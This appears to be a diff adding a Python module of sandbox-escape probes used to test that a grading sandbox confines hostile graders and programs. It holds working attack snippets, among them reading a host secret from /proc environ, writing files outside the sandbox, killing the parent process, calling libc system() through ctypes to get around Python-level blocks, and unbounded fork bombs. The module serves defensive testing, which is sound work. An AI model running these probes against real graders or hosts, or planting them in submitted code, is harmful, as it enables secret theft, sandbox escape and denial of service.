@@ -1,0 +1,274 @@
+"""Attacks on the machine that grades: each one a piece of Python an attacker would put in a grader or a program.
+
+Each probe defines ``attack()``, which returns when the attack worked and raises (with what stopped it) when it
+did not; :func:`python_grader_source` and :func:`program_source` wrap it as a python grader (``grade`` returns
+1.0 when the attack worked) or as a program for the ``code`` grader (prints 1 when it worked, the expected
+output of its one test case). Where Python's own API is refused, the probe tries again through ctypes, as an
+attacker would. Every probe is bounded (at most 200 processes, 600 MB of output, sleeps of seconds) so that
+it is safe to run against a grader that does not contain it; the real fork bomb is kept apart
+(:data:`FORK_BOMBS`) and run only inside a sandbox that is shown to cap processes.
+
+``CTX`` is filled in by the test: ports of loopback servers, files and paths outside the sandbox, the secret
+the host holds, the marker (process name) that the probe's children carry so the host can find survivors.
+"""
+
+from __future__ import annotations
+
+import json
+
+PRELUDE = '''
+import ctypes, json, os, signal, socket, struct, sys, time
+CTX = json.loads(%r)
+VICTIM = __VICTIM_PID__
+libc = ctypes.CDLL(None, use_errno=True)
+libc.malloc.restype = ctypes.c_void_p
+
+
+def mark():
+    """Name this process with the probe's marker (PR_SET_NAME), so the host can find it if it survives."""
+    libc.prctl(15, ctypes.c_char_p(CTX["marker"].encode()), 0, 0, 0)
+
+
+def c_error(what):
+    err = ctypes.get_errno()
+    return OSError(err, f"{what}: {os.strerror(err)}")
+
+
+def sockaddr(port):
+    return struct.pack("=H", 2) + struct.pack("!H", port) + bytes([127, 0, 0, 1]) + bytes(8)
+
+
+def c_socket(kind, proto=0):
+    fd = libc.socket(2, kind, proto)
+    if fd < 0:
+        raise c_error("socket()")
+    timeout = struct.pack("ll", 1, 0)
+    libc.setsockopt(fd, 1, 20, timeout, len(timeout))  # SO_RCVTIMEO: 1 s
+    return fd
+
+
+def udp_ask(port, payload):
+    """Send a datagram to a loopback port and return the reply: Python's socket first, then libc's."""
+    errors = []
+    try:
+        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        s.settimeout(1)
+        s.sendto(payload, ("127.0.0.1", port))
+        return s.recv(512)
+    except Exception as exc:
+        errors.append(repr(exc))
+    try:
+        fd, addr = c_socket(2), sockaddr(port)
+        libc.sendto(fd, payload, len(payload), 0, addr, len(addr))
+        buf = ctypes.create_string_buffer(512)
+        n = libc.recv(fd, buf, 512, 0)
+        if n > 0:
+            return buf.raw[:n]
+        errors.append(repr(c_error("recv()")))
+    except Exception as exc:
+        errors.append(repr(exc))
+    raise ConnectionError("; ".join(errors))
+
+
+def start_children(fork, n=200, sleep=3.0):
+    """Start up to n children that sleep, then exit; how many started."""
+    started = 0
+    for _ in range(n):
+        try:
+            pid = fork()
+        except OSError:
+            break
+        if pid < 0:
+            break
+        if pid == 0:
+            mark()
+            time.sleep(sleep)
+            os._exit(0)
+        started += 1
+    return started
+'''
+
+PROBES = {
+    "tcp": '''
+def attack():
+    try:
+        socket.create_connection(("127.0.0.1", CTX["tcp_port"]), timeout=2).sendall(b"leak")
+        return
+    except Exception as exc:
+        first = exc
+    fd, addr = c_socket(1), sockaddr(CTX["tcp_port"])
+    if libc.connect(fd, addr, len(addr)) != 0:
+        raise c_error(f"connect() after {first!r}")
+''',
+    "udp": '''
+def attack():
+    if udp_ask(CTX["udp_port"], b"leak") != b"echo:leak":
+        raise ConnectionError("no echo")
+''',
+    "raw_socket": '''
+def attack():
+    try:
+        socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
+        return
+    except Exception as exc:
+        first = exc
+    if libc.socket(2, 3, 1) < 0:
+        raise c_error(f"raw socket() after {first!r}")
+''',
+    "dns": '''
+def attack():
+    errors = []
+    try:
+        socket.getaddrinfo("localhost", 80)
+        return
+    except Exception as exc:
+        errors.append(repr(exc))
+    query = struct.pack("!HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + b"\\x07example\\x03com\\x00" + struct.pack("!HH", 1, 1)
+    if udp_ask(CTX["dns_port"], query)[:2] != b"\\x12\\x34":
+        raise ConnectionError("no DNS answer; " + "; ".join(errors))
+''',
+    "read_outside": '''
+def attack():
+    with open(CTX["secret_file"]) as f:
+        if CTX["secret"] not in f.read():
+            raise ValueError("read something else")
+''',
+    "write_outside": '''
+def attack():
+    errors = []
+    for path in CTX["write_targets"]:
+        try:
+            with open(path, "w") as f:
+                f.write("pwned")
+            return
+        except OSError as exc:
+            errors.append(repr(exc))
+    raise PermissionError("; ".join(errors))
+''',
+    "proc_environ": '''
+def attack():
+    for pid in {os.getppid(), VICTIM}:
+        try:
+            with open(f"/proc/{pid}/environ", "rb") as f:
+                if CTX["secret"].encode() in f.read():
+                    return
+        except OSError:
+            pass
+    raise PermissionError(f"no environment with the key among /proc/{os.getppid()}, /proc/{VICTIM}")
+''',
+    "other_processes": '''
+def attack():
+    try:
+        with open(f"/proc/{VICTIM}/cmdline", "rb") as f:
+            if b"victim" in f.read():
+                return
+    except OSError as exc:
+        first = exc
+    else:
+        first = "another process"
+    seen = [p for p in os.listdir("/proc") if p.isdigit()]
+    raise PermissionError(f"the host process is not visible ({first!r}); {len(seen)} processes in view")
+''',
+    "fork_plain": '''
+def attack():
+    started = start_children(os.fork)
+    if started < 200:
+        raise BlockingIOError(f"only {started} of 200 processes started")
+''',
+    "fork_ctypes": '''
+def attack():
+    started = start_children(libc.fork)
+    if started < 200:
+        raise BlockingIOError(f"only {started} of 200 processes started")
+''',
+    "setsid_daemon": '''
+def attack():
+    pid = libc.fork()
+    if pid < 0:
+        raise c_error("fork()")
+    if pid == 0:
+        libc.setsid()
+        mark()
+        time.sleep(20)
+        os._exit(0)
+    time.sleep(0.3)
+''',
+    "alloc_10gb": '''
+def attack():
+    try:
+        block = bytearray(10 * 1024 ** 3)
+        return
+    except MemoryError as exc:
+        first = exc
+    if not libc.malloc(ctypes.c_size_t(10 * 1024 ** 3)):
+        raise MemoryError(f"10 GB refused ({first!r}); malloc returned NULL")
+''',
+    "infinite_loop": '''
+def attack():
+    while True:
+        pass
+''',
+    "huge_output": '''
+def attack():
+    chunk = b"x" * (1 << 20)
+    for _ in range(300):
+        os.write(1, chunk)
+        os.write(2, chunk)
+''',
+    "kill_parent": '''
+def attack():
+    hit, errors = [], []
+    targets = {VICTIM} | ({os.getppid()} if os.getppid() > 1 else set())
+    for pid in targets:
+        try:
+            os.kill(pid, signal.SIGUSR1)
+            hit.append(pid)
+        except OSError as exc:
+            errors.append(repr(exc))
+            if libc.kill(pid, 10) == 0:
+                hit.append(pid)
+    time.sleep(0.3)
+    if not hit:
+        raise PermissionError("; ".join(errors))
+''',
+    "ctypes_system": '''
+def attack():
+    target = CTX["system_target"]
+    status = libc.system(f"echo pwned > {target}".encode())
+    if status != 0 or not os.path.exists(target):
+        raise PermissionError(f"system() returned {status}; {target} not written")
+''',
+}
+
+# Unbounded: every process forks until the kernel refuses. Run only where the sandbox caps processes.
+FORK_BOMBS = {
+    "fork_bomb_plain": '''
+def attack():
+    mark()
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            time.sleep(0.01)
+''',
+    "fork_bomb_ctypes": '''
+def attack():
+    mark()
+    while True:
+        if libc.fork() < 0:
+            time.sleep(0.01)
+''',
+}
+
+# Attacks whose success shows only on the host afterwards (a surviving process): the grade cannot tell.
+JUDGED_BY_HOST = {"setsid_daemon"}
+
+
+def python_grader_source(name: str, ctx: dict) -> str:
+    body = {**PROBES, **FORK_BOMBS}[name]
+    return PRELUDE % json.dumps(ctx) + body + "\n\ndef grade(sample, item):\n    attack()\n    return 1.0\n"
+
+
+def program_source(name: str, ctx: dict) -> str:
+    body = {**PROBES, **FORK_BOMBS}[name]
+    return PRELUDE % json.dumps(ctx) + body + "\n\nattack()\nprint(1)\n"
